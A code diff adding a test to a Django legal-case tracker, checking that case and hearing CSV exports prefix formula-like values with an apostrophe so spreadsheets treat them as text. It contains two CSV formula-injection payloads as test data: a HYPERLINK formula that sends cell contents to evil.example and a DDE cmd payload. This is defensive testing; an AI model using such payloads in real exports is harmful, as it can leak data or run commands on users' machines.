@@ -14,6 +14,7 @@ from drmonitor.tracker.models import (
     Campaign,
     Country,
     Court,
+    Hearing,
     Incident,
     Law,
     LegalCase,
@@ -106,3 +107,23 @@ def test_case_csv_names_every_party_as_the_case_page_and_the_api_do(client, demo
     )
     page = client.get(case.get_absolute_url()).content.decode()
     assert "Petitioning Person" in page and "and others as printed" in page
+
+
+def test_a_formula_typed_into_a_case_or_a_hearing_is_text_in_the_csv(client, demo):
+    hearing = Hearing.objects.published().order_by("pk").first()
+    case = hearing.case
+    case.title = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    case.save()
+    hearing.what_happened = "@SUM(1+1)*cmd|' /C calc'!A0"
+    hearing.save()
+
+    row = next(
+        r for r in rows(client.get("/api/cases.csv").content.decode()) if r["slug"] == case.slug
+    )
+    assert row["title"] == "'" + case.title  # a spreadsheet shows it as text, runs nothing
+    hearing_rows = rows(client.get("/api/hearings.csv").content.decode())
+    row = next(r for r in hearing_rows if r["id"] == str(hearing.pk))
+    assert row["what_happened"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["case_title"] == "'" + case.title
+    # Numbers and dates are not formulas and stay as they are.
+    assert row["date"][:1].isdigit()
